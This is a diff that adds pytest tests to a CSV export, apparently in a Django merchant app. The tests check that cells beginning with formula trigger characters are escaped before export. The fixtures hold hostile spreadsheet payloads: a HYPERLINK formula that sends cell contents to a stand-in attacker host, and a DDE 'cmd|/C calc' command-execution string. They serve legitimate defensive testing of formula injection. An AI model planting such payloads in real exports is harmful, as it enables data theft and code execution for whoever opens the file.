@@ -113,3 +113,20 @@ def test_export_queries_do_not_grow_with_items(merchant_client, make_variants, m
     merchant_client.get(ITEMS)
     with django_assert_max_num_queries(8):
         rows_of(merchant_client.get(EXPORT))
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"], ids=["eq", "plus", "minus", "at", "tab", "cr"])
+def test_export_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(merchant_client, make_variants, trigger):
+    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    variant = make_variants(1, "FAILED", sku=formula, title=formula, last_error=f"{trigger}cmd|'/C calc'!A0")[0]
+    variant.product.title = formula
+    variant.product.save()
+    row = rows_of(merchant_client.get(EXPORT))[0]
+    assert row["sku"] == row["variant"] == row["product"] == "'" + formula
+    assert not row["problems"].startswith(listing.FORMULA_TRIGGERS)  # one-lined, then escaped
+
+
+def test_export_leaves_ordinary_cells_alone():
+    assert listing.csv_cell("Winter Coat - S") == "Winter Coat - S"
+    assert listing.csv_cell("") == ""
+    assert listing.csv_cell(None) is None
